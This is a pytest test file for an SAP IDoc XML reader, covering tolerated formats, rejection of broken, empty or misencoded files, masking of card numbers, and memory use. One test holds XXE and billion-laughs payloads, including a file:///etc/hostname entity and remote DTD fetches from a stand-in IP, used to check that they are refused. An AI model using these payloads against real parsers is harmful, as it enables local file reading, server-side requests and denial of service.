"""IDoc XML files: what is tolerated, what is refused whole and why, and that a large file is read fast."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from pipelines.sources.idoc.reader import read_idocs

TABLE = "sap/goods_movements"
NAME = "sap/idoc/any.xml"


@pytest.fixture
def good(idocs) -> str:
    return idocs.document(idocs.movement(idocs.item(), idocs.serial("S1")))


def test_a_default_namespace_changes_nothing(read, good):
    spaced = good.replace("<MBGMCR03>", '<MBGMCR03 xmlns="urn:sap-com:document:sap:idoc:soap:messages">')
    assert read(NAME, spaced).accepted[TABLE].equals(read(NAME, good).accepted[TABLE])


def test_prefixed_and_mangled_segment_names_change_nothing(read, good):
    mangled = good.replace("E1BP2017_GM_ITEM_CREATE", "_-SPE_-E1BP2017_GM_ITEM_CREATE").replace("<MBGMCR03>", '<MBGMCR03 xmlns:n="urn:n">')
    mangled = mangled.replace("<E1BP2017_GM_SERIALNUMBER", "<n:E1BP2017_GM_SERIALNUMBER").replace(
        "</E1BP2017_GM_SERIALNUMBER", "</n:E1BP2017_GM_SERIALNUMBER"
    )
    assert read(NAME, mangled).accepted[TABLE].equals(read(NAME, good).accepted[TABLE])


def test_comments_cdata_and_instructions_change_nothing(read, good):
    dressed = good.replace("<SERIALNO>S1", "<SERIALNO><!-- no. -->S<![CDATA[1]]>").replace("<E1MBGMCR", "<?port x?><E1MBGMCR")
    assert read(NAME, dressed).accepted[TABLE]["serialno"].to_list() == ["S1"]


def test_a_file_on_one_line_is_read(read, good):
    assert read(NAME, good.replace("\n", "").replace("?>", "?>\n", 1)).accepted[TABLE]["_line"].to_list() == [2]


def test_the_root_names_the_type_where_the_control_record_does_not(read, idocs):
    content = idocs.document(idocs.movement(idocs.item(), IDOCTYP=None, MESTYP=None, DOCNUM=None, CREDAT="", SNDPRN=None), root="MBGMCR04")
    row = read(NAME, content).accepted[TABLE].row(0, named=True)
    assert [row[name] for name in ("idoctyp", "mestyp", "docnum", "credat", "sndprn")] == ["MBGMCR04", None, None, None, None]


def test_another_message_type_of_a_known_basic_type_is_read(read, idocs):
    assert read(NAME, idocs.document(idocs.movement(idocs.item(), MESTYP="ZWMMBXY"))).accepted[TABLE]["mestyp"].to_list() == ["ZWMMBXY"]


def test_other_encodings_are_read_as_declared(read, idocs):
    content = idocs.document(idocs.movement(idocs.item(ITEM_TEXT="Gerät")))
    for encoding in ("ISO-8859-1", "UTF-16", "windows-1252"):
        declared = content.replace("UTF-8", encoding).encode(encoding)
        assert read(NAME, declared).accepted[TABLE]["item_text"].to_list() == ["Gerät"], encoding


@pytest.mark.parametrize("basic_type", ["WVINVE03", "INVOIC02", "ORDERS", "MBGMCR"])
def test_an_unknown_type_is_one_refused_record_and_the_others_go_on(read, idocs, refused, basic_type):
    address = idocs.xml("E1EDKA1", NAME1="Jane Doe", ORT01="Austin", PARVW="WE")
    unknown = idocs.idoc(idocs.xml("E1EDK01", CURCY="USD", segments=[address]), IDOCTYP=basic_type)
    extracted = read(NAME, idocs.document(unknown, idocs.movement(idocs.item())))
    row = refused(extracted)
    assert (row["reason_code"], row["segment"], row["line"], row["field"]) == ("unknown_idoc_type", "IDOC[1]", 3, "idoctyp")
    known = "ARTMAS, CREMAS, DEBMAS, DELVRY, MATMAS, MBGMCR, SHPMNT, WPUBON, WPUUMS, WPUWBW"
    assert f"is of type {basic_type}, which no source contract reads; known are {known};" in row["reason"]
    assert "<PARVW>WE</PARVW>" in row["raw_record"]
    assert [name for name in ("Jane", "Austin") if name in row["raw_record"]] == []
    assert extracted.accepted[TABLE].height == 1


@pytest.mark.parametrize("share", [0.3, 0.6, 0.999])
def test_a_cut_off_file_is_refused_whole_though_idocs_before_the_break_were_complete(read, idocs, refused, share):
    content = idocs.document(*[idocs.movement(idocs.item()) for _ in range(5)])
    extracted = read(NAME, content[: int(len(content) * share)])
    row = refused(extracted)
    assert (row["reason_code"], extracted.refused_whole, extracted.accepted) == ("malformed_xml", True, {})
    assert row["raw_record"].startswith("<?xml")
    line = content[: int(len(content) * share)].count("\n") + 1
    assert f"cut off or broken at line {line}, column " in row["reason"]


@pytest.mark.parametrize(
    ("content", "told"),
    [
        ("serial;article\nS1;400558\n", "line 1, column 1"),
        ("<MBGMCR03><IDOC></MBGMCR03>", "line 1, column "),
        ("<MBGMCR03><IDOC BEGIN='1'/></MBGMCR03><again/>", "Extra content"),
        ("<MBGMCR03><IDOC><A>&unknown;</A></IDOC></MBGMCR03>", "line 1, column "),
        ("<a>" * 400 + "</a>" * 400, "depth"),
        ("<MBGMCR03><IDOC><A>\x01</A></IDOC></MBGMCR03>", "Char value 1"),
    ],
)
def test_what_is_no_well_formed_xml_is_refused_with_the_place(read, refused, content, told):
    extracted = read(NAME, content)
    row = refused(extracted)
    assert (row["reason_code"], extracted.refused_whole) == ("malformed_xml", True)
    assert told in row["reason"]


def test_latin_letters_in_a_file_that_says_utf_8_are_refused_with_the_line(read, idocs, refused):
    content = idocs.document(idocs.movement(idocs.item(ITEM_TEXT="Gerät"))).encode("latin-1")
    extracted = read(NAME, content)
    row = refused(extracted)
    line = content[: content.index(b"\xe4")].count(b"\n") + 1
    assert (row["reason_code"], extracted.refused_whole) == ("wrong_encoding", True)
    assert f"at line {line}, column " in row["reason"]
    assert "deliver it again" in row["reason"]


def test_an_encoding_that_nobody_knows_is_refused(read, good, refused):
    assert refused(read(NAME, good.replace("UTF-8", "X-MOON")))["reason_code"] == "wrong_encoding"


@pytest.mark.parametrize("content", [b"", b"   \r\n\t\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf  \n", b"\n" * 200_000])
@pytest.mark.parametrize("name", [NAME, "handheld/scans_1.jsonl", "sap/mara_1.csv", "nobody/knows.bin"])
def test_a_file_without_content_is_refused_as_empty(read, refused, content, name):
    extracted = read(name, content)
    row = refused(extracted)
    assert (row["reason_code"], extracted.refused_whole) == ("empty_file", True)
    assert f"The file {name} holds nothing" in row["reason"]


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE MBGMCR03 [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!DOCTYPE MBGMCR03 [<!ENTITY stolen SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE MBGMCR03 SYSTEM "http://203.0.113.1/idoc.dtd">',
        '<!DOCTYPE MBGMCR03 [<!ENTITY % p SYSTEM "http://203.0.113.1/p.dtd"> %p;]>',
        "<!-- a comment --> <!DOCTYPE MBGMCR03>",
        "<!DOCTYPE MBGMCR03",
    ],
)
def test_a_document_type_definition_is_refused_before_anything_is_expanded_or_fetched(read, good, refused, monkeypatch, doctype):
    def no_network(*_: object) -> None:
        raise AssertionError("the network was touched")

    monkeypatch.setattr(socket, "create_connection", no_network)
    content = good.replace("<MBGMCR03>", f"{doctype}<MBGMCR03>", 1).replace("<SERIALNO>S1", "<SERIALNO>&l11;&stolen;")
    extracted = read(NAME, content)
    row = refused(extracted)
    assert (row["reason_code"], extracted.refused_whole) == ("unsafe_xml" if doctype.endswith(">") else "malformed_xml", True)
    assert Path("/etc/hostname").read_text().strip() not in row["raw_record"]


def test_a_doctype_in_utf_16_is_seen_too(read, good, refused):
    content = good.replace("UTF-8", "UTF-16").replace("<MBGMCR03>", "<!DOCTYPE MBGMCR03 []><MBGMCR03>", 1)
    assert refused(read(NAME, content.encode("utf-16")))["reason_code"] == "unsafe_xml"


def test_xml_that_is_no_idoc_is_refused(read, refused):
    row = refused(read(NAME, '<inv:Invoice xmlns:inv="urn:example:invoice"/>'))
    assert row["reason_code"] == "no_idoc"
    assert "'Invoice' and no IDOC element" in row["reason"]


@pytest.mark.parametrize(
    "field",
    [
        "<KARTENNR>4111111111111111</KARTENNR>",
        "<KARTENNR>4111111111111111",
        "<KARTENNR> <![CDATA[4111111111111111]]></KARTENNR>",
        "<KARTENNR>41111<!-- x -->11111111111</KARTENNR>",
        '<ns:NAME1 x="y">4111111111111111</ns:NAME1>',
        "<STREET2>4111111111111111",
        "<TELEPHONE1>4111111111111111</TELEPHONE1>",
    ],
)
def test_personal_data_is_masked_in_the_beginning_of_a_broken_file(read, refused, field):
    row = refused(read(NAME, f"<WPUBON01><IDOC><E1WPB06><SUMME>10</SUMME>{field}"))
    assert row["reason_code"] == "malformed_xml"
    assert "1111" not in row["raw_record"] + row["reason"]
    assert "<SUMME>10</SUMME>" in row["raw_record"]


def _large(idocs, *, documents: int, serials: int) -> str:
    segments = [idocs.serial(f"3SER{number:08d}", f"{number % 4 + 1:04d}") for number in range(serials)]
    one = idocs.movement(*[idocs.item(ENTRY_QNT=str(serials / 4)) for _ in range(4)], *segments)
    return idocs.document(*[one] * documents)


def test_idocs_that_were_read_are_forgotten(tmp_path, idocs):
    path = tmp_path / "large.xml"
    # More than is parsed in one piece.
    path.write_text(_large(idocs, documents=160, serials=300))
    assert path.stat().st_size > 4 * 1024 * 1024
    # The parser reads some 32 kB ahead, which is about one of these IDocs.
    held = [len(idoc.element.getparent()) for idoc in read_idocs(path)]
    assert len(held) == 160
    assert max(held) <= 3
